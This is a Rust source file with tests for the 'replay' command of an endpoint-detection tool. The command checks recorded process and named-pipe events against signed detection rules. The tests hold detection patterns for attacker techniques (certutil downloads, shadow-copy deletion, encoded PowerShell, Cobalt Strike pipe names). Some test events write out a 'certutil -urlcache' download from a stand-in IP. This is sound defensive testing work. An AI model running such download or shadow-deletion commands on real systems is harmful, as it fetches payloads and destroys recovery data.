//! `changuard replay`: evaluate recorded sensor events (JSON lines) against
//! channel files, with the same validator and interpreter the driver runs, and
//! check the verdicts the events file expects.
//!
//! # Inputs
//! - `--content FILE...`: channel files. Each is read into a 16-byte aligned
//!   buffer ([`changuard_format::AlignedBytes`], as the kernel's pool buffers
//!   are) and validated for the channel id taken from its **file name** when it
//!   is `C-<channel>-<version>.chan` (the loader's naming, e.g.
//!   `C-00000291-00000007.chan`), otherwise from the file's **own header**
//!   (bytes 16..20, little-endian; `changuard_format::layout::header::CHANNEL`).
//!   The second case only replays what the file claims to be; the signature
//!   still has to verify.
//! - `--pubkey PUB` (repeatable): the trusted public keys, as for `validate`:
//!   a file must be signed by one of them.
//! - `--events EVENTS.jsonl`: one event per line; the format (absent fields,
//!   `expect`) is [`crate::events`]'s. Strings are cut to their field's cap
//!   as the driver does, unless `--no-truncate`.
//!
//! # Output
//! Text: one line per event with its matches (`channel/instance action`), the
//! absent and truncated fields, a diff when an expectation is not met; then a
//! summary. `--json`: one object per event line ([`harness::outcome_json`], or
//! `{"line":..,"error":".."}`), then `{"summary":{..}}`.
//!
//! When a content file is rejected no event is evaluated (a verdict from part
//! of the content says nothing about what the driver would do): the rejection
//! is printed and the exit code is 1.
//!
//! # Exit codes
//! 0 every event ran and every expectation was met; 1 content rejected, an
//! expectation not met, an evaluation faulted or ran out of fuel; 2 usage or
//! I/O error, or a malformed event line.

use std::io::Write;
use std::path::PathBuf;

use crate::harness::{self, Content, LineResult, Options, Tally};
use changuard_format::{AlignedBytes, Trust, TrustedKey, ValidChannel, validate};
use serde_json::{Map, Value as Json, json};

pub use crate::harness::{EXIT_OK, EXIT_USAGE};
/// Exit code: content rejected, an expectation not met, a fault or exhausted fuel.
pub const EXIT_INVALID: i32 = harness::EXIT_FAIL;

/// Arguments of `changuard replay`.
#[derive(clap::Args, Clone, Debug)]
#[command(after_help = harness::EVENTS_HELP)]
pub struct ReplayArgs {
    /// Channel files to load (`C-<channel>-<version>.chan`; for other names the
    /// channel id is read from the file's header).
    #[arg(long = "content", required = true, num_args = 1.., value_name = "FILE")]
    pub content: Vec<PathBuf>,
    /// Trusted public key file(s), as for `validate` (repeat `--pubkey` for
    /// several): each file must be signed by one of them.
    #[arg(long = "pubkey", required = true, value_name = "PUB")]
    pub pubkeys: Vec<PathBuf>,
    /// Events, one JSON object per line (format below).
    #[arg(long, value_name = "EVENTS.jsonl")]
    pub events: PathBuf,
    /// Evaluate strings at full length instead of cutting them to the field's
    /// cap as the driver does (what-if only: the driver never sees longer values).
    #[arg(long)]
    pub no_truncate: bool,
    /// Machine-readable output: one JSON object per event, then a summary object.
    #[arg(long)]
    pub json: bool,
}

/// Run `changuard replay`, printing to stdout/stderr. Returns the exit code.
pub fn run(args: &ReplayArgs) -> i32 {
    let stdout = std::io::stdout();
    let stderr = std::io::stderr();
    run_to(args, &mut stdout.lock(), &mut stderr.lock())
}

/// [`run`] with explicit output streams (for tests).
pub fn run_to(args: &ReplayArgs, out: &mut dyn Write, err: &mut dyn Write) -> i32 {
    harness::exit_code(replay(args, out, err), args.json, out, err)
}

fn replay(args: &ReplayArgs, out: &mut dyn Write, err: &mut dyn Write) -> Result<i32, String> {
    let keys = args
        .pubkeys
        .iter()
        .map(|p| crate::keys::read_public(p))
        .collect::<Result<Vec<TrustedKey>, String>>()?;
    let trust = Trust::new(&keys);
    let events_text = std::fs::read_to_string(&args.events)
        .map_err(|e| format!("{}: {e}", args.events.display()))?;

    let mut bufs: Vec<(PathBuf, AlignedBytes)> = Vec::new();
    for path in &args.content {
        let b = crate::files::read_capped(path).map_err(|e| format!("{}: {e}", path.display()))?;
        bufs.push((path.clone(), b));
    }
    let mut rejected: Vec<String> = Vec::new();
    let mut chans: Vec<ValidChannel<&[u8]>> = Vec::new();
    for (path, b) in &bufs {
        let bytes: &[u8] = b.as_ref();
        let (channel, _) = crate::files::expected_channel(path, bytes, None);
        match validate(bytes, &trust, channel) {
            Ok(v) if chans.iter().any(|c| c.channel() == v.channel()) => {
                let _ = writeln!(
                    err,
                    "{}: skipped: channel {channel} already loaded from another file",
                    path.display()
                );
                rejected.push(path.display().to_string());
            }
            Ok(v) => chans.push(v),
            Err(r) => {
                let r = crate::files::true_size(path, r);
                let _ = writeln!(err, "{}: rejected: {r}", path.display());
                rejected.push(path.display().to_string());
            }
        }
    }
    if !rejected.is_empty() {
        let _ = writeln!(
            err,
            "no event replayed: {} content file(s) rejected (the driver would not load them, so \
             no verdict here would be the driver's)",
            rejected.len()
        );
        if args.json {
            let _ = writeln!(
                out,
                "{}",
                json!({"summary": {"content_rejected": rejected, "events": 0, "exit_code": EXIT_INVALID}})
            );
        }
        return Ok(EXIT_INVALID);
    }
    let content = match Content::new(&chans) {
        Ok(c) => c,
        Err(e) => {
            let _ = writeln!(err, "error: cannot build the interpreter: {e}");
            return Ok(EXIT_INVALID);
        }
    };
    if !args.json {
        let st = content.engine().stats();
        let _ = writeln!(
            out,
            "loaded {} channel(s), {} instance(s) ({} always checked, {} DFA(s))",
            st.channels, st.instances, st.always, st.dfas
        );
    }
    let opts = Options {
        truncate: !args.no_truncate,
    };
    let events_name = args.events.display().to_string();
    let tally = content.run(&events_text, opts, &mut |r| match r {
        LineResult::Malformed { line, message } => {
            if args.json {
                let _ = writeln!(out, "{}", json!({"line": line, "error": message}));
            } else {
                let _ = writeln!(err, "{events_name}:{line}: {message}");
            }
        }
        LineResult::Event(o) => {
            if args.json {
                let _ = writeln!(out, "{}", harness::outcome_json(o));
            } else {
                let _ = writeln!(out, "{}", harness::outcome_text(o));
            }
        }
    });
    let code = tally.exit_code();
    let note = tally.health_note(opts);
    if args.json {
        let mut summary = harness::tally_json(&tally);
        if let Some(o) = summary.as_object_mut() {
            let per: Map<String, Json> = tally
                .per_instance
                .iter()
                .map(|((c, i), (n, a))| (format!("{c}/{i}"), json!({"matches": n, "action": a})))
                .collect();
            o.insert("matches".into(), Json::Object(per));
            o.insert(
                "channels".into(),
                chans
                    .iter()
                    .map(|c| json!({"channel": c.channel(), "version": c.version()}))
                    .collect(),
            );
            o.insert("truncate".into(), json!(opts.truncate));
            o.insert("note".into(), json!(note));
            o.insert("exit_code".into(), json!(code));
        }
        let _ = writeln!(out, "{}", json!({ "summary": summary }));
    } else {
        print_summary(out, &tally);
        if let Some(n) = note {
            let _ = writeln!(err, "FAIL: {n}");
        }
        if tally.failed > 0 {
            let _ = writeln!(
                err,
                "FAIL: {} expectation(s) not met (lines marked EXPECTATION NOT MET above)",
                tally.failed
            );
        }
    }
    Ok(code)
}

fn print_summary(out: &mut dyn Write, t: &Tally) {
    let _ = writeln!(
        out,
        "summary: {} event(s) replayed, {} malformed line(s), {} fault(s), {} exhausted budget(s); \
         expectations: {} met, {} not met, {} event(s) without expect; {} event(s) truncated",
        t.events,
        t.malformed,
        t.faults,
        t.exhausted_lines.len(),
        t.met,
        t.failed,
        t.unchecked,
        t.truncated
    );
    for ((c, i), (n, a)) in &t.per_instance {
        let _ = writeln!(out, "  {c}/{i} ({a}): {n} match(es)");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use changuard_format::build::{ChannelSpec, CriterionSpec, InstanceSpec, SigningKey, build};
    use changuard_format::schema::{NAMED_PIPE_CREATE, PROCESS_CREATE, TemplateType};
    use changuard_format::{Action, SCHEMA_ID, StrOp};
    use std::collections::BTreeMap;
    use std::path::Path;

    fn inst(
        id: u32,
        t: &TemplateType,
        action: Action,
        set: &[(&str, CriterionSpec)],
    ) -> InstanceSpec {
        let mut criteria = vec![CriterionSpec::Any; t.input_count()];
        for (name, c) in set {
            criteria[t.field_index(name).unwrap()] = c.clone();
        }
        InstanceSpec {
            also: Vec::new(),
            unless: Vec::new(),
            metadata: Default::default(),
            id,
            template: t.id,
            action,
            criteria,
        }
    }
    fn st(op: StrOp, v: &str) -> CriterionSpec {
        CriterionSpec::Str {
            op,
            value: v.into(),
            case_insensitive: true,
        }
    }
    fn re(p: &str, ci: bool) -> CriterionSpec {
        CriterionSpec::Regex {
            pattern: p.into(),
            case_insensitive: ci,
        }
    }

    /// The detections of examples/content/{process,pipes}.toml, as specs.
    fn example_specs() -> Vec<ChannelSpec> {
        let pc = &PROCESS_CREATE;
        let np = &NAMED_PIPE_CREATE;
        let range = |lo, hi| CriterionSpec::IntRange { lo, hi };
        vec![
            ChannelSpec {
                channel: 300,
                version: 1,
                schema_id: SCHEMA_ID,
                instances: vec![
                    inst(
                        1,
                        pc,
                        Action::Report,
                        &[
                            ("image_path", st(StrOp::Suffix, "\\certutil.exe")),
                            ("command_line", re(r"(?i)-urlcache.*https?://", false)),
                        ],
                    ),
                    inst(
                        2,
                        pc,
                        Action::BlockCandidate,
                        &[
                            ("image_path", st(StrOp::Suffix, "\\vssadmin.exe")),
                            ("command_line", st(StrOp::Contains, "delete shadows")),
                        ],
                    ),
                    inst(
                        3,
                        pc,
                        Action::Report,
                        &[
                            ("image_path", st(StrOp::Suffix, "\\powershell.exe")),
                            (
                                "command_line",
                                re(
                                    r"(?i)\s-(e|ec|enc|encodedcommand)\s+[A-Za-z0-9+/=]{20,}",
                                    false,
                                ),
                            ),
                            ("parent_image_path", st(StrOp::Suffix, "\\winword.exe")),
                        ],
                    ),
                    inst(
                        4,
                        pc,
                        Action::Report,
                        &[
                            ("image_path", st(StrOp::Suffix, "\\rundll32.exe")),
                            ("command_line", st(StrOp::Contains, "javascript:")),
                        ],
                    ),
                    inst(
                        5,
                        pc,
                        Action::Report,
                        &[
                            ("image_path", st(StrOp::Suffix, "\\cmd.exe")),
                            ("integrity_level", range(0, 4096)),
                            ("session_id", range(1, 4_294_967_295)),
                        ],
                    ),
                    inst(
                        6,
                        pc,
                        Action::Report,
                        &[(
                            "image_path",
                            re(
                                r"(?i)\\appdata\\local\\temp\\[^\\]*[^\x00-\x7f][^\\]*\.exe$",
                                false,
                            ),
                        )],
                    ),
                ],
            },
            ChannelSpec {
                channel: 291,
                version: 1,
                schema_id: SCHEMA_ID,
                instances: vec![
                    inst(
                        10,
                        np,
                        Action::BlockCandidate,
                        &[(
                            "pipe_name",
                            re(
                                r"\\(msagent_|postex_|status_|postex_ssh_)[0-9a-f]{2,4}$",
                                true,
                            ),
                        )],
                    ),
                    inst(
                        11,
                        np,
                        Action::Report,
                        &[
                            ("pipe_name", re(r"\\MSSE-[0-9]{1,5}-server$", false)),
                            ("creating_image_path", st(StrOp::Prefix, "c:\\users\\")),
                        ],
                    ),
                    inst(
                        20,
                        np,
                        Action::Report,
                        &[
                            ("pipe_name", st(StrOp::Suffix, "\\psexesvc")),
                            ("creating_session_id", range(1, 4_294_967_295)),
                        ],
                    ),
                    inst(
                        30,
                        np,
                        Action::Report,
                        &[
                            ("pipe_name", st(StrOp::Contains, "\\lsarpc")),
                            ("is_remote", CriterionSpec::IntEquals(1)),
                            (
                                "desired_access",
                                CriterionSpec::IntMask { mask: 2, value: 2 },
                            ),
                        ],
                    ),
                ],
            },
        ]
    }

    struct Fixture {
        _dir: tempfile::TempDir,
        args: ReplayArgs,
    }

    fn fixture(events: &Path) -> Fixture {
        let dir = tempfile::tempdir().unwrap();
        let key = SigningKey::from_seed([42u8; 32]);
        let pubkey = dir.path().join("changuard.pub");
        let hexkey: String = key.public().iter().map(|b| format!("{b:02x}")).collect();
        std::fs::write(&pubkey, format!("{hexkey}\n")).unwrap();
        let mut content = Vec::new();
        for (k, spec) in example_specs().iter().enumerate() {
            // One file named like the loader's, one with another name (channel from the header).
            let name = if k == 0 {
                format!("C-{:08}-{:08}.chan", spec.channel, spec.version)
            } else {
                "pipes.chan".to_string()
            };
            let path = dir.path().join(name);
            std::fs::write(&path, build(spec, &key).unwrap()).unwrap();
            content.push(path);
        }
        Fixture {
            args: ReplayArgs {
                content,
                pubkeys: vec![pubkey],
                events: events.to_path_buf(),
                no_truncate: false,
                json: false,
            },
            _dir: dir,
        }
    }

    fn examples_dir() -> PathBuf {
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/events")
    }

    fn run_json(args: &ReplayArgs) -> (i32, Vec<Json>, String) {
        let mut out = Vec::new();
        let mut err = Vec::new();
        let args = ReplayArgs {
            json: true,
            content: args.content.clone(),
            pubkeys: args.pubkeys.clone(),
            events: args.events.clone(),
            no_truncate: args.no_truncate,
        };
        let code = run_to(&args, &mut out, &mut err);
        let objs = String::from_utf8(out)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        (code, objs, String::from_utf8(err).unwrap())
    }

    /// Under --json an unreadable events file is one JSON error object on
    /// stdout (nothing on stderr), exit 2.
    #[test]
    fn json_errors_are_one_object_on_stdout() {
        let f = fixture(&examples_dir().join("pipes.jsonl"));
        let mut args = f.args.clone();
        args.events = PathBuf::from("/nonexistent/events.jsonl");
        let (code, objs, err) = run_json(&args);
        assert_eq!(code, EXIT_USAGE);
        assert!(err.is_empty(), "{err}");
        assert_eq!(objs.len(), 1, "{objs:?}");
        let msg = objs[0]["error"]["message"].as_str().unwrap();
        assert!(msg.contains("/nonexistent/events.jsonl"), "{msg}");
        assert_eq!(objs[0]["error"]["kind"], "usage");
    }

    fn detections(objs: &[Json]) -> BTreeMap<String, Vec<String>> {
        objs.iter()
            .filter_map(|o| {
                let label = o.get("label")?.as_str()?.to_string();
                let m = o
                    .get("matches")?
                    .as_array()?
                    .iter()
                    .map(|m| format!("{}/{}", m["channel"], m["instance"]))
                    .collect();
                Some((label, m))
            })
            .collect()
    }

    #[test]
    fn example_events_give_expected_detections() {
        let f = fixture(&examples_dir().join("process.jsonl"));
        let (code, objs, err) = run_json(&f.args);
        assert_eq!(code, EXIT_OK, "{err}");
        let d = detections(&objs);
        let want: &[(&str, &[&str])] = &[
            ("explorer-starts-notepad", &[]),
            ("certutil-download", &["300/1"]),
            ("vssadmin-delete-shadows", &["300/2"]),
            ("word-spawns-encoded-powershell", &["300/3"]),
            ("powershell-encoded-from-explorer", &[]),
            ("rundll32-javascript", &["300/4"]),
            ("low-integrity-cmd", &["300/5"]),
            ("system-cmd", &[]),
            ("cyrillic-invoice-in-temp", &["300/6"]),
            ("ascii-exe-in-temp", &[]),
            ("cjk-user-profile-certutil-download", &["300/1"]),
        ];
        for (label, m) in want {
            assert_eq!(
                d.get(*label).map(Vec::as_slice),
                Some(&m.iter().map(|s| s.to_string()).collect::<Vec<_>>()[..]),
                "{label}"
            );
        }
        let summary = objs.last().unwrap()["summary"].clone();
        assert_eq!(summary["faults"], 0);
        assert_eq!(summary["malformed"], 0);

        let f = fixture(&examples_dir().join("pipes.jsonl"));
        let (code, objs, err) = run_json(&f.args);
        assert_eq!(code, EXIT_OK, "{err}");
        let d = detections(&objs);
        let want: &[(&str, &[&str])] = &[
            ("cobalt-strike-msagent", &["291/10"]),
            ("cobalt-strike-postex-upper", &["291/10"]),
            ("smb-beacon-from-user-dir", &["291/11"]),
            ("smb-beacon-from-system32", &[]),
            ("psexec-interactive", &["291/20"]),
            ("psexec-service-session0", &[]),
            ("remote-lsarpc-write", &["291/30"]),
            ("local-lsarpc", &[]),
            ("chrome-mojo", &[]),
            ("non-ascii-pipe", &[]),
        ];
        for (label, m) in want {
            assert_eq!(
                d.get(*label).map(Vec::as_slice),
                Some(&m.iter().map(|s| s.to_string()).collect::<Vec<_>>()[..]),
                "{label}"
            );
        }
    }

    fn run_text(args: &ReplayArgs) -> (i32, String, String) {
        let mut out = Vec::new();
        let mut err = Vec::new();
        let code = run_to(args, &mut out, &mut err);
        (
            code,
            String::from_utf8(out).unwrap(),
            String::from_utf8(err).unwrap(),
        )
    }

    /// An events file in a fresh directory, and a fixture replaying it.
    fn with_events(lines: &[Json]) -> (tempfile::TempDir, Fixture) {
        let dir = tempfile::tempdir().unwrap();
        let events = dir.path().join("events.jsonl");
        let text: Vec<String> = lines.iter().map(Json::to_string).collect();
        std::fs::write(&events, text.join("\n")).unwrap();
        let f = fixture(&events);
        (dir, f)
    }

    #[test]
    fn malformed_lines_are_reported_and_skipped() {
        let dir = tempfile::tempdir().unwrap();
        let events = dir.path().join("bad.jsonl");
        let good = std::fs::read_to_string(examples_dir().join("process.jsonl")).unwrap();
        let first = good.lines().next().unwrap();
        let v: Json = serde_json::from_str(first).unwrap();
        let mut absent = v.clone();
        absent["fields"].as_object_mut().unwrap().remove("pid");
        let mut extra = v.clone();
        extra["fields"]["pipe_name"] = json!("x");
        let mut wrong = v.clone();
        wrong["fields"]["pid"] = json!("1234");
        let mut negative = v.clone();
        negative["fields"]["pid"] = json!(-1);
        let mut typo = v.clone();
        typo["fields"]["command_lin"] = json!("x");
        let text = [
            first.to_string(),
            absent.to_string(),
            extra.to_string(),
            wrong.to_string(),
            "{not json".to_string(),
            json!({"template": "FileWrite", "fields": {}}).to_string(),
            negative.to_string(),
            String::new(),
            first.to_string(),
            typo.to_string(),
        ]
        .join("\n");
        std::fs::write(&events, text).unwrap();
        let f = fixture(&events);
        let (code, out, err) = run_text(&f.args);
        // A malformed line is an error in the events file: exit 2.
        assert_eq!(code, EXIT_USAGE);
        for needle in [
            ":3: ProcessCreate has no field \"pipe_name\"",
            ":4: field \"pid\" must be an integer, found a string",
            ":5: not JSON",
            ":6: unknown template \"FileWrite\"",
            ":7: field \"pid\" must be an integer in 0..=2^64-1",
            ":10: ProcessCreate has no field \"command_lin\" (did you mean \"command_line\"?)",
        ] {
            assert!(err.contains(needle), "missing {needle:?} in\n{err}");
        }
        // Line 2 lacks "pid": it runs, with pid 0, and says so.
        assert!(!err.contains(":2:"), "{err}");
        assert!(
            out.contains("line 2: ProcessCreate (explorer-starts-notepad): no match\n  absent (\"\" / 0): pid\n"),
            "{out}"
        );
        assert!(
            out.contains("summary: 3 event(s) replayed, 6 malformed line(s)"),
            "{out}"
        );
    }

    #[test]
    fn absent_fields_are_listed_per_event() {
        // Only the fields the detection needs: the certutil instance still matches.
        let (_d, f) = with_events(&[
            json!({"template": "ProcessCreate", "label": "short", "fields": {
                "image_path": "C:\\Windows\\System32\\certutil.exe",
                "command_line": "certutil -urlcache -f http://203.0.113.7/p.bin"}}),
            json!({"template": "NamedPipeCreate", "fields": {"pipe_name": "\\Device\\NamedPipe\\msagent_5c"}}),
            json!({"template": "NamedPipeCreate"}),
        ]);
        let (code, out, err) = run_text(&f.args);
        assert_eq!(code, EXIT_OK, "{err}");
        assert!(out.contains("line 1: ProcessCreate (short): 300/1 report\n  absent (\"\" / 0): 9 of 11, all but image_path, command_line\n"), "{out}");
        assert!(out.contains("line 2: NamedPipeCreate: 291/10 block-candidate\n  absent (\"\" / 0): 19 of 20, all but pipe_name\n"), "{out}");
        assert!(
            out.contains("line 3: NamedPipeCreate: no match\n  absent (\"\" / 0): all 20 fields\n"),
            "{out}"
        );
        let (_, objs, _) = run_json(&f.args);
        assert_eq!(
            objs[0]["absent"],
            json!([
                "parent_image_path",
                "user_sid",
                "pid",
                "parent_pid",
                "creator_pid",
                "session_id",
                "integrity_level",
                "token_elevated",
                "parent_command_line"
            ])
        );
        assert_eq!(objs[2]["absent"].as_array().unwrap().len(), 20);
        // Every field given: an empty list.
        let f = fixture(&examples_dir().join("process.jsonl"));
        let (_, objs, _) = run_json(&f.args);
        assert_eq!(objs[0]["absent"], json!([]));
    }

    #[test]
    fn strings_are_truncated_like_the_driver_unless_no_truncate() {
        // "-urlcache http://" after 8 kB of padding: past command_line's 2048-byte cap.
        let padding = "x".repeat(8000);
        let cmd = format!("certutil {padding} -urlcache -f http://203.0.113.7/p.bin");
        let (_d, f) = with_events(&[
            json!({"template": "ProcessCreate", "expect": [], "fields": {
                "image_path": "C:\\Windows\\System32\\certutil.exe", "command_line": cmd}}),
        ]);
        let (code, out, err) = run_text(&f.args);
        assert_eq!(code, EXIT_OK, "{out}{err}");
        assert!(
            out.contains("line 1: ProcessCreate: no match [as expected]"),
            "{out}"
        );
        let cut = format!(
            "  truncated to the driver's cap: command_line ({} -> 2048 bytes)",
            cmd.len()
        );
        assert!(out.contains(&cut), "{out}");
        let (_, objs, _) = run_json(&f.args);
        assert_eq!(objs[0]["truncated"], json!(["command_line"]));
        assert_eq!(objs[0]["matches"], json!([]));
        assert_eq!(objs[1]["summary"]["truncated_events"], 1);
        // Full length: the detection fires here, where the kernel would not see it,
        // so the expectation written for the driver fails.
        let args = ReplayArgs {
            no_truncate: true,
            ..f.args
        };
        let (code, out, _) = run_text(&args);
        assert_eq!(code, EXIT_INVALID, "{out}");
        assert!(out.contains("line 1: ProcessCreate: 300/1 report"), "{out}");
        assert!(!out.contains("truncated to"), "{out}");
        let (_, objs, _) = run_json(&args);
        assert_eq!(objs[0]["truncated"], json!([]));
    }

    #[test]
    fn expectations_are_checked_with_a_diff() {
        let mut lines: Vec<Json> = std::fs::read_to_string(examples_dir().join("process.jsonl"))
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        lines[0]["expect"] = json!([]); // met: no match
        lines[1]["expect"] = json!(["300/1"]); // met
        lines[2]["expect"] = json!(["300/2 block-candidate"]); // met, action too
        lines[3]["expect"] = json!([{"channel": 300, "instance": 4}]); // got 300/3
        lines[4]["expect"] = json!(["300/3"]); // got nothing
        lines[5]["expect"] = json!(["300/4 block-candidate"]); // wrong action
        let (_d, f) = with_events(&lines);
        let (code, out, err) = run_text(&f.args);
        assert_eq!(code, EXIT_INVALID, "{out}{err}");
        assert!(
            out.contains("line 1: ProcessCreate (explorer-starts-notepad): no match [as expected]"),
            "{out}"
        );
        assert!(
            out.contains("line 2: ProcessCreate (certutil-download): 300/1 report [as expected]"),
            "{out}"
        );
        assert!(out.contains("300/2 block-candidate [as expected]"), "{out}");
        let want4 = "line 4: ProcessCreate (word-spawns-encoded-powershell): 300/3 report [EXPECTATION NOT MET]\n  expected: 300/4\n  got:      300/3 report\n  - 300/4                        expected, did not match\n  + 300/3 report                 matched, not expected\n";
        assert!(out.contains(want4), "{out}");
        assert!(
            out.contains(
                "[EXPECTATION NOT MET]\n  expected: 300/3\n  got:      no match\n  - 300/3 "
            ),
            "{out}"
        );
        assert!(
            out.contains(
                "  - 300/4 block-candidate        expected, did not match\n  + 300/4 report "
            ),
            "{out}"
        );
        // Lines without expect are not checked.
        assert!(
            out.contains("expectations: 3 met, 3 not met, 5 event(s) without expect"),
            "{out}"
        );
        assert!(err.contains("FAIL: 3 expectation(s) not met"), "{err}");

        let (code, objs, _) = run_json(&f.args);
        assert_eq!(code, EXIT_INVALID);
        assert_eq!(objs[0]["expect_met"], true);
        assert_eq!(objs[3]["expect"], json!(["300/4"]));
        assert_eq!(objs[3]["expect_met"], false);
        assert_eq!(objs[3]["missing"], json!(["300/4"]));
        assert_eq!(objs[3]["unexpected"], json!(["300/3 report"]));
        assert_eq!(objs[6]["expect_met"], Json::Null);
        let summary = &objs.last().unwrap()["summary"];
        assert_eq!(
            summary["expectations"],
            json!({"met": 3, "failed": 3, "unchecked": 5})
        );
        assert_eq!(summary["exit_code"], EXIT_INVALID);

        // Every expectation met: exit 0.
        let met: Vec<Json> = lines[..3].to_vec();
        let (_d, f) = with_events(&met);
        assert_eq!(run_text(&f.args).0, EXIT_OK);
    }

    #[test]
    fn fuel_exhaustion_fails_the_run_and_says_why() {
        // A 100 kB pipe name: past the driver's cap, so only --no-truncate
        // evaluates it. It holds a member of the Cobalt Strike regex's
        // literal set, so that regex scans it all.
        let name = format!("\\Device\\NamedPipe\\msagent_{}", "a".repeat(100_000));
        let (_d, f) = with_events(&[
            json!({"template": "NamedPipeCreate", "label": "huge", "expect": [], "fields": {"pipe_name": name}}),
            json!({"template": "NamedPipeCreate", "fields": {"pipe_name": "\\Device\\NamedPipe\\msagent_5c"}}),
        ]);
        // As the driver sees it: cut to 1024 bytes, evaluated in budget.
        let (code, out, err) = run_text(&f.args);
        assert_eq!(code, EXIT_OK, "{out}{err}");
        assert!(
            out.contains("truncated to the driver's cap: pipe_name (100026 -> 1024 bytes)"),
            "{out}"
        );
        assert!(!out.contains("FUEL"), "{out}");
        // Line 2 matches the msagent regex: its scans are reported.
        let (_, objs, _) = run_json(&f.args);
        let scans = objs[1]["dfa_scans"].as_u64().unwrap();
        assert!(scans >= 1, "{}", objs[1]);
        assert_eq!(
            objs[1]["scanned_bytes"].as_u64().unwrap(),
            scans * r"\Device\NamedPipe\msagent_5c".len() as u64,
            "{}",
            objs[1]
        );
        let args = ReplayArgs {
            no_truncate: true,
            ..f.args
        };
        let (code, out, err) = run_text(&args);
        assert_eq!(code, EXIT_INVALID, "{out}{err}");
        assert!(out.contains("line 1: NamedPipeCreate (huge): no match [FUEL EXHAUSTED] [channel 291] [as expected]"), "{out}");
        assert!(out.contains("1 exhausted budget(s)"), "{out}");
        assert!(
            err.contains("FAIL: 1 evaluation(s) ran out of fuel (line 1) (channel 291)"),
            "{err}"
        );
        assert!(
            err.contains("a channel on trial with a fault is not promoted"),
            "{err}"
        );
        assert!(err.contains("--no-truncate"), "{err}");
        let (code, objs, _) = run_json(&args);
        assert_eq!(code, EXIT_INVALID);
        assert_eq!(objs[0]["fuel_exhausted"], true);
        assert_eq!(objs[0]["blamed_channels"], json!([291]));
        let summary = &objs[2]["summary"];
        assert_eq!(summary["fuel_exhausted"], 1);
        assert_eq!(summary["fuel_exhausted_lines"], json!([1]));
        assert!(summary["note"].as_str().unwrap().contains("not promoted"));
    }

    #[test]
    fn rejected_content_prints_the_rejection_and_no_verdicts() {
        let f = fixture(&examples_dir().join("pipes.jsonl"));
        // Wrong key: every file rejected -> 1, and no event is evaluated.
        let other = f.args.pubkeys[0].with_file_name("other.pub");
        std::fs::write(&other, "00".repeat(32)).unwrap();
        let args = ReplayArgs {
            pubkeys: vec![other.clone()],
            content: f.args.content.clone(),
            events: f.args.events.clone(),
            no_truncate: false,
            json: false,
        };
        let (code, out, err) = run_text(&args);
        assert_eq!(code, EXIT_INVALID);
        assert!(
            err.contains("C-00000300-00000001.chan: rejected: "),
            "{err}"
        );
        assert!(err.contains("pipes.chan: rejected: "), "{err}");
        assert!(
            err.contains("no event replayed: 2 content file(s) rejected"),
            "{err}"
        );
        assert!(
            !out.contains("no match") && !out.contains("line 1"),
            "{out}"
        );
        let (code, objs, _) = run_json(&args);
        assert_eq!(code, EXIT_INVALID);
        assert_eq!(objs.len(), 1, "{objs:?}");
        assert_eq!(
            objs[0]["summary"]["content_rejected"]
                .as_array()
                .unwrap()
                .len(),
            2
        );
        // One file rejected, the other valid: still nothing evaluated.
        let args = ReplayArgs {
            pubkeys: f.args.pubkeys.clone(),
            content: vec![f.args.content[0].clone(), f.args.content[0].clone()],
            ..args
        };
        let (code, out, err) = run_text(&args);
        assert_eq!(code, EXIT_INVALID);
        assert!(err.contains("already loaded"), "{err}");
        assert!(!out.contains("no match"), "{out}");
        // Unreadable key -> 2.
        std::fs::write(&other, "not hex").unwrap();
        let bad_key = ReplayArgs {
            pubkeys: vec![other.clone()],
            content: f.args.content.clone(),
            ..args
        };
        assert_eq!(
            run_to(&bad_key, &mut Vec::new(), &mut Vec::new()),
            EXIT_USAGE
        );
        // Missing events file -> 2.
        let args = ReplayArgs {
            events: other.with_file_name("nope.jsonl"),
            pubkeys: f.args.pubkeys.clone(),
            ..bad_key
        };
        assert_eq!(run_to(&args, &mut Vec::new(), &mut Vec::new()), EXIT_USAGE);
    }

    #[test]
    fn several_pubkeys_any_one_signing_is_enough() {
        let f = fixture(&examples_dir().join("pipes.jsonl"));
        let key = f.args.pubkeys[0].clone();
        let other = key.with_file_name("other.pub");
        std::fs::write(&other, "11".repeat(32)).unwrap();
        for keys in [
            vec![other.clone(), key.clone()],
            vec![key.clone(), other.clone()],
        ] {
            let args = ReplayArgs {
                pubkeys: keys,
                content: f.args.content.clone(),
                events: f.args.events.clone(),
                no_truncate: false,
                json: false,
            };
            let (code, out, err) = run_text(&args);
            assert_eq!(code, EXIT_OK, "{err}");
            assert!(out.contains("loaded 2 channel(s)"), "{out}");
        }
        // Only untrusting keys: rejected.
        let args = ReplayArgs {
            pubkeys: vec![other],
            ..f.args
        };
        assert_eq!(run_text(&args).0, EXIT_INVALID);
    }
}
